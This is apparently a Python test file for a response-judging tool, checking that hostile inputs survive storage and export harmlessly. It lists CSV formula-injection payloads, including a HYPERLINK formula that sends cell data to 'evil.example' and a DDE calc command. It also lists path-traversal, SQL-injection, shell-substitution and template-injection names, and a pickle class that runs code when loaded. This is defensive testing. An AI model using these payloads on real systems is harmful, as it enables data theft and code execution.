"""Texts and names that attack the store, the exports and
the file system do nothing but be stored and come back.
"""

from __future__ import annotations

import ast
import csv
import pickle
import sqlite3
import stat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adjudge.data import EXPORT_HEADER, Table
from adjudge.data.formulas import FORMULA_STARTS, guarded, unguarded
from adjudge.results.export import EXPORT_COLUMNS
from adjudge.store import open_store
from fakeserver import Answer, FakeServer, Request, chat
from running import DIRECT, ROOT, adjudge, as_id, model_at, prompt_of, write_rows

CELLS = (
    "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''", "'", "' quoted'",
    "it's",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)", 'a,"b\r\nc",d',
    "a\rb", "a;b\tc",
)  # fmt: skip
NAMES = (
    "../../x", "/etc/passwd", "C:\\x\\..\\y", "CON", "nul.txt", "aux", "'; DROP TABLE results;--",
    '"; DROP TABLE runs;--',
    "a/b\\c", ".", "..", "~", "$(touch pwned)", "`touch pwned`", "-rf", "%00", "{{response}}",
    "{0.__class__}",
)  # fmt: skip


def payloads(attacks: list[dict[str, str]], layer: str) -> list[str]:
    return [attack["payload"] for attack in attacks if attack["layer"].startswith(layer)]


# -- spreadsheets


def read_back(path: Path) -> list[dict[str, Any]]:
    """The rows of a table by our own reader, which must find nothing wrong with it."""
    problems: list[str] = []
    rows = [row for _, row in Table(path).rows(lambda place, text: problems.append(f"{place}: {text}"))]
    assert problems == []
    return rows


def export_of(texts: list[str], folder: Path) -> tuple[Path, list[dict[str, Any]]]:
    """The CSV of a run whose ids, systems, groups and explanations are such texts, and its JSONL."""
    items = write_rows(
        folder / "items.jsonl",
        (
            {"id": as_id(f"{text}{k}"), "system": text, "group": text, "instruction": "Say.",
            "response": f"answer <{k}>"}
            for k, text in enumerate(texts)
        ),
    )  # fmt: skip

    def judge(request: Request) -> Answer:
        prompt = prompt_of(request)
        number = int(prompt[prompt.index("answer <") + 8 :].split(">")[0])
        return chat(f"{texts[number]} is what I say. [RESULT] {number % 5 + 1}")

    store, out = folder / "adjudge.db", folder / "export.csv"
    with FakeServer(judge) as server:
        done = adjudge("run", items, *DIRECT, "-m", model_at(server), "--store", store, "-q")
    assert done.code == 0, done.err
    assert adjudge("export", "last", "--store", store, "--format", "csv", "-o", out).code == 0
    return out, adjudge("export", "last", "--store", store).rows


def check_export(texts: list[str], folder: Path) -> None:
    path, rows = export_of([text for text in texts if text.strip()], folder)
    with path.open(newline="", encoding="utf-8") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    is_number = {str(row[name]) for row in rows for name in ("score", "normalized", "confidence")}
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS[:-1]) and cell not in is_number]
    back = read_back(path)
    assert len(back) == len(rows)
    for restored, row in zip(back, rows, strict=True):
        for name in ("item", "system", "group", "explanation", "protocol", "model"):
            assert restored.get(name) == row[name], name
        assert float(restored["score"]) == row["score"]


def test_an_export_is_safe_in_a_spreadsheet_and_comes_back_unchanged(tmp_path: Path) -> None:
    check_export(list(CELLS), tmp_path)


def test_the_known_attacks_on_spreadsheets_come_back_unchanged(
    tmp_path: Path, attacks: list[dict[str, str]]
) -> None:
    check_export(payloads(attacks, "L7"), tmp_path)


@given(st.text())
def test_a_guarded_text_begins_with_no_formula_and_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(FORMULA_STARTS[:-1])


def test_an_apostrophe_in_a_users_own_table_stays(tmp_path: Path) -> None:
    path = tmp_path / "mine.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "explanation"])
        writer.writerows([str(k), f"'{text}"] for k, text in enumerate(CELLS))
    assert [row["explanation"] for row in read_back(path)] == [f"'{text}" for text in CELLS]


def test_an_export_is_known_by_the_columns_that_exports_have() -> None:
    assert tuple(EXPORT_COLUMNS) == EXPORT_HEADER


# -- names


def check_names(names: list[str], folder: Path) -> None:
    """Every command takes such ids, and no file appears that was not asked for."""
    inside = folder / "inside"
    inside.mkdir()
    items = write_rows(
        inside / "items.jsonl",
        ({"id": name, "system": name, "instruction": "Say.", "response": f"answer {k}."} for k,
        name in enumerate(names)),
    )  # fmt: skip
    store = inside / "adjudge.db"
    common = ("--store", store)
    run = ("run", items, *DIRECT, "-m", "fake:text=[RESULT] 4", *common, "-q", "--json")
    for name in ("mine", *names[:3]):
        assert adjudge(*run, "--run", name).code == 0
        assert [row["item"] for row in adjudge("export", name, *common).rows] == names
        report = adjudge("report", name, *common, "--json").json
        assert set(report["systems"]) == set(names)
        assert adjudge("report", name, *common, "--markdown").code == 0
    for form in ("jsonl", "csv", "parquet"):
        assert adjudge("export", "mine", *common, "--format", form, "-o", inside / f"out.{form}").code == 0
    assert [row["run"] for row in adjudge("runs", *common, "--json").json] == ["mine", *names[:3]]
    assert adjudge("runs", "delete", names[0], "--yes", *common).code == 0
    assert len(adjudge("export", "mine", *common).rows) == len(names)
    made = {path.relative_to(folder).as_posix() for path in folder.rglob("*")}
    assert made <= {
        "inside", *(f"inside/{name}" for name in (
            "items.jsonl", "adjudge.db", "adjudge.db-wal", "adjudge.db-shm", "out.jsonl", "out.csv",
            "out.parquet",
        )),
    }  # fmt: skip


def test_ids_systems_and_runs_may_have_any_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    check_names(list(NAMES), tmp_path)


def test_the_known_attacks_by_name_are_names(
    tmp_path: Path, attacks: list[dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    check_names(list(dict.fromkeys(payloads(attacks, "L8"))), tmp_path)


# -- the store


def test_a_store_and_its_log_can_be_read_by_their_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "adjudge.db"
    with open_store(path) as store:
        store.start_run("mine", {"items": {}}, "identity")
        files = list(tmp_path.iterdir())
        assert len(files) > 1
        assert {stat.S_IMODE(file.stat().st_mode) for file in files} == {0o600}
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


class Bomb:
    """What a pickle can do when it is loaded."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self._path,)


def test_a_pickle_in_the_store_is_damage_and_is_never_loaded(tmp_path: Path) -> None:
    store, proof = tmp_path / "adjudge.db", tmp_path / "loaded"
    items = write_rows(
        tmp_path / "items.jsonl", [{"id": "a", "instruction": "Say.", "response": "answer 1."}]
    )
    command = ("run", items, *DIRECT, "-m", "fake:text=[RESULT] 4", "--store", store, "-q", "--json")
    assert adjudge(*command).code == 0
    bomb = pickle.dumps(Bomb(proof))
    with sqlite3.connect(store) as connection:
        connection.execute("UPDATE replies SET text = ?, reasoning = ?, logprobs = ?", (bomb, bomb, bomb))
        connection.execute("UPDATE judgments SET body = ?", (bomb,))
    connection.close()
    adjudge("export", "last", "--store", store)
    adjudge("reread", "last", "--store", store)
    assert adjudge(*command).code == 0
    assert [row["score"] for row in adjudge("export", "last", "--store", store).rows] == [4.0]
    assert not proof.exists()


@pytest.mark.slow
def test_no_module_can_load_a_pickle() -> None:
    banned = {
        "pickle",
        "cPickle",
        "_pickle",
        "marshal",
        "shelve",
        "dill",
        "joblib",
        "cloudpickle",
        "diskcache",
    }
    for path in (ROOT / "src").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            assert not banned & {name.split(".")[0] for name in names}, path
